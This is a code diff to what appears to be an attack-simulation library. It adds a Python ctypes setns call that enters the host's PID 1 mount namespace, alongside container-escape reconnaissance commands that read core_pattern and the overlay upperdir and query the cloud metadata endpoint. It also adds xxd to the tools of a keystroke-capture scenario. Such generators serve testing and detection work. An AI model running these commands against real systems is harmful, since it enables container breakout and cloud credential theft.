@@ -46,7 +46,10 @@ const leaving: Attack = {
       root(place, `ls /dev/disk /dev/sd* /dev/vd* /dev/nvme* 2>&1 | head`),
       `cat /proc/sys/kernel/core_pattern; sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mounts | head -1`,
       `timeout 3 bash -c 'curl -s http://169.254.169.254/latest/meta-data/'`,
-      root(place, `python3 -c 'import os; os.setns(os.open("/proc/1/ns/mnt",0),0); print(os.listdir("/"))'`),
+      root(
+        place,
+        `python3 -c 'import os,ctypes; ctypes.CDLL(None).setns(os.open("/proc/1/ns/mnt",0),0); print(os.listdir("/"))'`,
+      ),
     ];
     return [
       ...about,
@@ -117,7 +120,7 @@ const input: Attack = {
   family: 'input-captured',
   techniques: ['T1056.001', 'T1113', 'T1056.003'],
   as: 'either',
-  needs: ['script', 'python3', 'strace', 'sudo'],
+  needs: ['script', 'python3', 'strace', 'sudo', 'xxd'],
   lines: (draw, place) => {
     const log = workFile(draw, place, draw.pick(['.log', '.txt', '']));
     const code = workFile(draw, place, '.py');
